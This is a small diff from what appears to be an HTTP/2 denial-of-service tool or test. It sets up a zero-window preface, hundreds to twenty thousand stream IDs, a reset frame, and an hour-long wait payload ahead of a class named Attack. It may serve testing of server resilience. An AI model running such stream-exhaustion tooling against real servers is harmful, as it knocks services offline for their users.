@@ -7,7 +7,7 @@ NO_WINDOW = h2.PREFACE + h2.settings(initial_window_size=0)
 STREAMS = range(1, 512, 2)  # as many as a connection may have
 MANY = range(1, 20_001, 2)
 RESET = b"\0\0\0\x08"
-WAIT = b"\x0a\x03ids\x10\xe8\x07\x32\x03\x08\x90\x1c"  # for 1000 handles, for an hour
+WAIT = b"\x0a\x04bait\x32\x03\x08\x90\x1c"  # for an hour, for what only the first one gets
 
 
 class Attack:
